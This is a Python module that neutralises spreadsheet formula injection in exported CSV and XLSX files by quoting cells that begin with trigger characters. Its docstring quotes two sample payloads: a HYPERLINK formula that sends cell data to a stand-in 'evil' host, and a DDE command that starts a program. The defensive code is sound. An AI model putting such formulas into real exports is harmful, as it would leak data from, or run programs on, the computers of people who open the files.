"""Text that a spreadsheet would take for a formula, kept as text in the CSV and XLSX we write.

Agency names, district names and measure texts come from people and from uploaded files. A cell
that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab, carriage return or NUL, which some
spreadsheets skip before looking) is run as a formula by Excel, LibreOffice and Google Sheets when
the file is opened: ``=HYPERLINK("http://evil/?"&A1)`` sends data away, ``=cmd|' /C calc'!A0``
starts a program (OWASP "CSV Injection", CWE-1236).

- **CSV**: such a text cell gets one apostrophe in front (the OWASP rule). So that the apostrophe
  can be taken off again without changing any other text, a text that already starts with
  apostrophes followed by one of those characters gets one more. The reader's rule is therefore:
  a cell matching ``^'+[=+\\-@\\t\\r\\x00]`` loses its first character, and nothing else changes.
- **XLSX**: every text cell is written as a string cell (openpyxl would otherwise store any text
  starting with ``=`` as a formula, and ``#N/A`` as an error value), with Excel's "quote prefix"
  style on the dangerous ones, so that editing the cell keeps it text; the text itself is unchanged.
- Numbers are not text: ``-5`` in a score column stays the number -5 in both formats.
"""

from __future__ import annotations

import re
from typing import Any

TRIGGERS = "=+-@\t\r\x00"
# A text cell that needs the apostrophe (and, as regular expression source, the same for polars).
NEEDS_QUOTE = r"^'*[=+\-@\t\r\x00]"
_NEEDS_QUOTE = re.compile(NEEDS_QUOTE)


def csv_text(text: str) -> str:
    """The text as a CSV cell no spreadsheet runs: ``=1+1`` -> ``'=1+1``; other text unchanged."""
    return "'" + text if _NEEDS_QUOTE.match(text) else text


def csv_value(value: Any) -> Any:
    """:func:`csv_text` for text; numbers and everything else unchanged."""
    return csv_text(value) if isinstance(value, str) else value


def dangerous(text: str) -> bool:
    """Whether a spreadsheet would run this text as a formula if it were typed into a cell."""
    return text[:1] in TRIGGERS and text != ""


def as_text_cell(cell: Any) -> None:
    """Make an openpyxl cell that holds a str a string cell, never a formula or an error value.

    ``cell`` is an openpyxl ``Cell`` or ``WriteOnlyCell`` whose value is already set."""
    if isinstance(cell.value, str):
        cell.data_type = "s"
        if dangerous(cell.value):
            cell.quotePrefix = True
